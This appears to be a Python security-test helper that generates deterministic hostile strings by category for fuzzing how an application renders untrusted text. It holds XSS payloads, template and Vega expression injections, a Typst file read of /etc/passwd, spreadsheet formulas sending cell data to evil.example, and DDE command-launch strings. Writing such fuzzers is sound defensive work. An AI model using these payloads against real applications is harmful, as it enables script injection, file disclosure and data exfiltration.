"""Hostile strings without end, by category: a few of the worst, and a grammar that makes as many more as are asked.

The same seed gives the same strings. ``PRODUCT`` is what two numbers in them come to where somebody computes; with
``__x`` and ``evil.example`` it is what no output may show anywhere but in text.
"""

from __future__ import annotations

import random
import unicodedata
from collections.abc import Callable, Iterator, Sequence
from dataclasses import dataclass
from itertools import cycle, islice

from tests.security.strings import CONTROLS, FOREIGN, KINDS

SUM = "7919*7907"
PRODUCT = "62615533"
LONGEST = 10_000
_RUN = "window.__x=1"
_WORDS = ("Växjö", "An Giang", "kommun", "Överenskommelse", "och", "vatten", "x", "")


@dataclass(frozen=True, slots=True)
class Category:
    """A kind of hostile text: ``worst`` are chosen by hand, ``made`` makes another from a random generator.

    ``refused``: tables hold none of these characters, and a cell with one is told of.
    """

    name: str
    worst: Sequence[str]
    made: Callable[[random.Random], str]
    refused: bool = False


def hostile_strings(count: int, seed: int = 16) -> list[tuple[str, str]]:
    """``count`` different pairs of a category's name and a string, the categories in turn, the worst first."""
    made: dict[str, str] = {}
    for category, text in _endless(seed):
        made.setdefault(_as_kept(text), category)
        if len(made) == count:
            break
    return [(category, text) for text, category in made.items()]


def worst(count: int = 12) -> list[str]:
    """Up to ``count`` hand-picked strings of each category, made up to that by its grammar."""
    chosen = random.Random(16)  # noqa: S311  # not for secrets
    return list(
        dict.fromkeys(
            _as_kept(text) for category in CATEGORIES for text in islice(_strings(category, chosen), count)
        )
    )


def _as_kept(text: str) -> str:
    """In Unicode's composed form and without space around, as tables keep texts; never empty."""
    return unicodedata.normalize("NFC", text)[:LONGEST].strip() or "-"


def _endless(seed: int) -> Iterator[tuple[str, str]]:
    chosen = random.Random(seed)  # noqa: S311  # not for secrets
    streams = [(category.name, _strings(category, chosen)) for category in CATEGORIES]
    for name, strings in cycle(streams):
        yield name, next(strings)


def _strings(category: Category, chosen: random.Random) -> Iterator[str]:
    yield from category.worst
    while True:
        yield _among_words(category.made(chosen), chosen)


def _among_words(text: str, chosen: random.Random) -> str:
    before, after = chosen.choice(_WORDS), chosen.choice(_WORDS)
    return chosen.choice((text, f"{before} {text}", f"{text} {after}", f"{before}{text}{after}"))


def _pick(*parts: Sequence[str]) -> Callable[[random.Random], str]:
    """A grammar of one rule: one of each of the parts, one after the other."""
    return lambda chosen: "".join(chosen.choice(part) for part in parts)


def _nested(chosen: random.Random) -> str:
    """Markup in markup: endings of everything that may be around it, then an element that acts."""
    ends = (
        "</script>",
        "</style>",
        "</title>",
        "</textarea>",
        "-->",
        "]]>",
        '">',
        "'>",
        "</svg>",
        "</text>",
        "*/",
        "`",
    )
    acts = (
        f"<script>{_RUN}</script>", f"<img src=x onerror={_RUN}>", f"<svg/onload={_RUN}>",
            f"<iframe src=//{FOREIGN}>",
        f"<object data=//{FOREIGN}>", f"<base href=//{FOREIGN}/>", f"<meta http-equiv=refresh content=0;//{FOREIGN}>",
        f"<math><mi xlink:href=javascript:{_RUN}>", f"<body onpageshow={_RUN}>", f"<x-y onclick={_RUN}>",
    )  # fmt: skip
    text = "".join(chosen.choices(ends, k=chosen.randint(0, 3))) + chosen.choice(acts)
    return text.upper() if chosen.random() < 0.2 else text.replace(" ", chosen.choice((" ", "/", "\n")))


def _characters(*ranges: range) -> Callable[[random.Random], str]:
    """Letters with characters of some ranges between them."""
    every = [chr(c) for each in ranges for c in each]
    return lambda chosen: "a" + "ö".join(chosen.choices(every, k=chosen.randint(1, 8))) + "b"


def _long(chosen: random.Random) -> str:
    unit = chosen.choice(
        ("A", "Å ", "0123456789 ", "<b>", "{{", "é\u0301", "👩\u200d", "العربية ", "&amp;", "\\", "$ ", "_")
    )
    return f"{chosen.randrange(10**6)} " + unit * (LONGEST // len(unit))


_BIDI = _characters(range(0x202A, 0x202F), range(0x2066, 0x206A), range(0x200E, 0x2010), range(0x5D0, 0x5EB))
_ZERO = _characters(
    range(0x200B, 0x200E), range(0x2060, 0x2065), range(0xFE00, 0xFE10), range(0xE0020, 0xE0080)
)
_NONE = (
    0xFFFE,
    0xFFFF,
    *range(0xFDD0, 0xFDF0),
    *(p * 0x10000 + e for p in range(1, 17) for e in (0xFFFE, 0xFFFF)),
)
NON_CHARACTERS = tuple(map(chr, _NONE))
"""The 66 code points that Unicode gives to nobody; XML forbids two of them, and some readers all."""

CATEGORIES = (
    Category(
        "templates",
        KINDS["templates"],
        _pick(("{{", "${", "#{", "<%=", "[[", "{%", "{{{", "@(", "*{", "%{", "{{constructor."),
              ("", " ", "'a'|", "self.", "range(9)|"), (SUM, f"({SUM})", f"{SUM}|safe", "1/0", "config", "__x"),
              ("}}", "}", "%>", "]]", "%}", "}}}", ")", "")),
    ),
    Category(
        "Vega expressions",
        ("datum.label + window.__x", f"datum['{SUM}']", f"{{'signal': '{SUM}'}}", '{"expr": "7919*7907"}',
         "@@holder@@", "param[0]\\.x", "[object Object]", "#,.2%", "time(datum.x)", "\\n\\t", "datum", "null"),
        _pick(("datum.", "event.", "signal:", '{"signal":"', "{\"expr\":\"", "=", "format("),
              (SUM, "warn(1)", "__x", "constructor", "toString()", "this.window"), ("", '"}', ")", "|| 1", "[0]")),
    ),
    Category(
        "Typst markup",
        (f"#({SUM})", '#read("/etc/passwd")', "#import \"@preview/x:1.0.0\": *", "#set page(width: 1pt)",
            "$x^2$ @ref",
         "*fet* _kursiv_ `kod`", "= Rubrik", "<etikett> @etikett", "\\u{1F600} ~ -- ---", "// bort", "/* bort", "#{"),
        _pick(("#", "#let x = ", "#eval(", "#image(", "$", "#while true {", "#panic(", "#box["),
              (f"{SUM}", '"../../etc/passwd"', "[x]", "x.y", "sys.inputs", "__x"), ("", ")", "]", "$", "}", "//",
              "/*")),
    ),
    Category(
        "Markdown",
        KINDS["markdown"],
        _pick(("![", "[", "<", "| ", "# ", "> ", "```", ":red[", "~~", "$$", ":material/", "- [ ] ", "**"),
              ("text", f"https://{FOREIGN}/a", SUM, "&lt;b&gt;", "__x"),
              (f"](https://{FOREIGN}/m.png)", f"](javascript:{_RUN})", "](data:text/html,x)", "]", "```", "$$",
              "**", ">")),
    ),
    Category(
        "formulas",
        KINDS["formulas"],
        _pick(("=", "+", "-", "@", "\uff1d", "\uff0b", "'=", '"=', "=+", "=-", "=@"),
              (SUM, "SUM(A1:A9)", 'HYPERLINK("http://evil.example/"&A1,"x")', 'WEBSERVICE("http://evil.example")',
               "IMPORTXML(A1)", "RTD(1)"), ("", "&A1", ";1", ",1", '"')),
    ),
    Category(
        "DDE",
        ("=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "=DDE(\"cmd\";\"/C calc\";\"x\")", "+cmd|x!A0",
         "DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\"", "{ DDE excel a b }", "{ INCLUDETEXT x }"),
        _pick(("=", "+", "-", "@", "{ DDEAUTO ", "{ DDE ", "{ HYPERLINK ", "{ INCLUDEPICTURE "),
              ("cmd|", "MSEXCEL|", "powershell|", "rundll32|"), ("' /C calc'", "'\\\\..\\\\x'", SUM), ("!A0", "!_x",
              " }", "!''")),
    ),
    Category(
        "JSON in script",
        KINDS["script"],
        _pick(("</script>", "<!--<script>", "\u2028", "\u2029", '"', "'", "\\", "\\u003c/script>", "]]>", "`"),
              (f";{_RUN}//", f"+{SUM}+", "});", "]}};", "__proto__", '"__proto__":{}'), ("", "\\", "//", "<!--",
              "\u2028", "'"))
    ),
    Category(
        "attributes",
        KINDS["style"] + ("\" onfocus=\"window.__x=1\" autofocus=\"", "' onmouseover='window.__x=1",
            "`onclick=window.__x=1`"),
        _pick(('"', "'", "`", "\" ", "'/", "\u201d ", "&quot; "),
              ("onmouseover=", "onfocus=", "style=", "formaction=", "srcdoc=", "xlink:href=", "href=", "data-bind="),
              (_RUN, f"'{_RUN}'", f"javascript:{_RUN}", f"url(//{FOREIGN})", f"&#106;avascript:{_RUN}"), ("",
              ' x="', " x='", ">")),
    ),
    Category(
        "schemes",
        KINDS["addresses"],
        _pick(("javascript", "JaVaScRiPt", "java\tscript".replace("\t", " "), "data", "vbscript", "file", "blob",
            "view-source", "\u0131avascript"),
              (":", "&colon;", "%3A", ":/", "://"), (_RUN, "text/html,<script>", f"//{FOREIGN}", "etc/passwd", SUM),
              ("", "#", "?x", "%0d%0aX: y")),
    ),
    Category("bidirectional", ("\u202eakrev\u202c mot", "\u2066isolerad\u2069", "\u200fשלום\u200e",
        "\u202e\u202d\u202b\u2067"), _BIDI),
    Category("zero width", ("osynlig\u200b\u200c\u200d\u2060\ufeffx", "\u200b", "\u2060", "mjukt\u00adstreck"),
        _ZERO),
    Category("surrogates", ("a\ud800b", "\udfff", "\udc00\ud800", "\ud83d"), _characters(range(0xD800, 0xE000)),
        True),
    Category("non-characters", ("a\uffffb", "\ufffe", "\ufdd0", "\U0010ffff x"),
             lambda chosen: "a" + "".join(chosen.choices(NON_CHARACTERS, k=chosen.randint(1, 5))) + "b"),
    Category("control", ("a\x1b[31mb", "\x07", "a\x00b", "a\x9bm"),
             lambda chosen: "a" + "".join(chosen.choices((*CONTROLS, "\0"), k=chosen.randint(1, 5))) + "[2Jb", True),
    Category(
        "entities",
        ("&lt;script&gt;window.__x=1&lt;/script&gt;", "&amp;amp; &#60;b&#62; &copy", "&#0;", "&#xD800;", "&x;",
            "&nbsp",
         '<!DOCTYPE x [<!ENTITY a "b">]>&a;', "<![CDATA[x]]>", "<?xml version='1.0'?>", "_x000D_ _x0041_",
         "%26lt%3B"),
        _pick(("&", "&amp;", "&#", "&#x", "&amp;#", "_x"), ("lt", "60", "3c", "x3C", "0", "FFFF", "nbsp", "colon",
            "1114112", "003D"),
              (";", "", "_", ";b&gt;"), ("", f"script&gt;{_RUN}", SUM)),
    ),
    Category("markup", KINDS["markup"], _nested),
    Category(
        "SVG",
        ("<svg onload=window.__x=1>", "<svg><script>window.__x=1</script></svg>",
            "</text></svg><script>window.__x=1</script>",
         f'<use href="//{FOREIGN}/#a"/>', f'<image href="//{FOREIGN}"/>', "<foreignObject><body onload=window.__x=1>",
         '<set attributeName="href" to="javascript:window.__x=1"/>', "<a xlink:href='javascript:window.__x=1'>",
         "<style>@import 'x';</style>"),
        _pick(("", "</text>", "</g>", "</svg>", "]]>", "</style>"), ("<svg:script>", "<use href=",
            "<image xlink:href=", "<animate onbegin=", "<foreignObject>", "<a href="),
              (f'"{_RUN}"', f"'//{FOREIGN}/x.svg#a'", f"'javascript:{_RUN}'"), (">", "/>", "><!--")),
    ),
    Category("formats", KINDS["formats"], _pick(("{", "%", "{0", "$(", "%(", "\\"), ("n", "x!r", "__class__", "s",
        "0.1f", "__x", "1"), ("}", "s", ")s", ")", "", ".mro()}"))),
    Category("letters", KINDS["letters"], _characters(range(0x300, 0x370), range(0x1D400, 0x1D4C0), range(0x4E00,
        0x4E80), range(0x1F600, 0x1F640), range(0xE000, 0xE040))),
    Category("10,000 letters", ("A" * LONGEST, "ord " * 2500, "<b>{{7919*7907}}</b> " * 450), _long),
)  # fmt: skip
